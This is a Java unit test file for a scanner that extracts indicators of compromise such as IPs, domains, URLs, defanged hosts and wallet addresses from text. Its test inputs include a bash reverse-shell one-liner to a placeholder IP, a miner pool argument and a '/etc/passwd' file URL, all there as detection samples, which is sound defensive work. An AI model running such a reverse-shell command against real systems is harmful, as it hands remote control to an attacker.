package dev.offscript.model;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Random;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** One row a text: what is found in it. */
final class IndicatorScannerTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '\0',
      textBlock =
          """
          ssh -p 443 svc@203.0.113.9                     | ip:203.0.113.9
          connect to 203.0.113.9:443, then stop.         | ip:203.0.113.9 port:443
          bash -i >& /dev/tcp/203.0.113.9/443            | ip:203.0.113.9
          ssh gw.example.net                             | domain:gw.example.net
          curl example.com/x                             | domain:example.com
          mail me@example.io                             | domain:example.io
          -o stratum+tcp://pool.example.org:3333 -u x    | url:stratum+tcp://pool.example.org:3333 domain:pool.example.org port:3333
          see https://Example.COM/A?b=1).                | url:https://Example.COM/A?b=1 domain:example.com
          [x](https://example.com/a_(b))                 | url:https://example.com/a_(b) domain:example.com
          http://user:pw@203.0.113.9:8080/x              | url:http://user:pw@203.0.113.9:8080/x ip:203.0.113.9 port:8080
          hxxps://evil[.]example[.]com/a                 | url:https://evil.example.com/a domain:evil.example.com
          203.0.113[.]9 and gw(dot)example(dot)net       | ip:203.0.113.9 domain:gw.example.net
          [2001:db8::1]:22                               | ip:2001:db8::1 port:22
          host 2001:DB8:0:0:0:0:0:1 up                   | ip:2001:db8::1
          addr:2001:db8::1                               | ip:2001:db8::1
          ping6 ::1                                      | ip:::1
          0.tcp.ngrok.io:12345                           | domain:0.tcp.ngrok.io port:12345
          UPPER: GW.EXAMPLE.NET                          | domain:gw.example.net
          http://[2001:db8::7]:8080/                     | url:http://[2001:db8::7]:8080/ ip:2001:db8::7 port:8080
          # what only looks like one
          setup.py main.rs:42 node.js README.md          |
          python 1.2.3 and version 1.2.3.4               |
          numpy==1.2.3.4 v1.2.3.4 1.2.3.4.5              |
          Mozilla/5.0 Chrome/120.0.0.0 Safari/537.36     |
          010.1.1.1 256.1.1.1 1.2.3 2130706433           |
          torch.io.read() self.net.forward x.to(device)  |
          skimage.io import os.name user.name            |
          import org.apache.commons.io                   |
          std::string a::b dead::beef 12:34:56           |
          00:1a:2b:3c:4d:5e                              |
          System.Net foo.test.py e.g. i.e. etc...        |
          file:///etc/passwd pkg://name                  |
          0x0000000000000000000000000000000000000000     |
          d41d8cd98f00b204e9800998ecf8427e               |
          a..b .com -x.com- _ . .. ...                   |
          # checksums of the formats' own published examples
          pay 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 now     | wallet:1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2
          pay 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3 now     |
          1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2.rig-7       | wallet:1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2
          to bitcoincash:qpm2qsznhks23z7629mms6s4cwef74vcwvy22gdx6a. | wallet:bitcoincash:qpm2qsznhks23z7629mms6s4cwef74vcwvy22gdx6a
          bitcoincash:qpm2qsznhks23z7629mms6s4cwef74vcwvy22gdx6q |
          bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4     | wallet:bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4
          bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5     |
          0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed     | wallet:0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed
          0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD     |
          44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A | wallet:44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A
          44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3B |
          """)
  void finds(String text, String terms) {
    assertThat(
            IndicatorScanner.scan(text).stream()
                .map(Indicator::term)
                .collect(Collectors.joining(" ")))
        .isEqualTo(terms == null ? "" : terms);
  }

  @Test
  void offsetsCutTheValueOut() {
    String text = "go to gw(dot)example(dot)net:22 or 203.0.113.9.";
    assertThat(IndicatorScanner.scan(text))
        .extracting(found -> text.substring(found.start(), found.end()))
        .containsExactly("gw(dot)example(dot)net", "22", "203.0.113.9");
  }

  @Test
  void survivesAnyText() {
    String pieces = "a1.:/[]()@-_%x\u0000\ud800é中 \"'http://203.0.113.9::1bc10x+";
    for (int seed = 0; seed < 20_000; seed++) {
      Random random = new Random(seed);
      StringBuilder text = new StringBuilder();
      for (int i = random.nextInt(40); i >= 0; i--) {
        int at = random.nextInt(pieces.length());
        text.append(pieces, at, Math.min(pieces.length(), at + 1 + random.nextInt(6)));
      }
      assertThat(IndicatorScanner.scan(text))
          .as("seed %d", seed)
          .allSatisfy(
              found -> {
                assertThat(found.value()).isNotEmpty();
                assertThat(found.end()).isGreaterThan(found.start());
              });
    }
  }

  /** What is not linear takes hours for this. */
  @Test
  void takesLinearTime() {
    for (String piece :
        new String[] {"http://", "a.", "1.", "::", "[.]", "x@", "((((", "a:b:", "f:"}) {
      long started = System.nanoTime();
      IndicatorScanner.scan(piece.repeat(2_000_000 / piece.length()), 1000);
      assertThat((System.nanoTime() - started) / 1_000_000).as(piece).isLessThan(20_000);
    }
  }
}
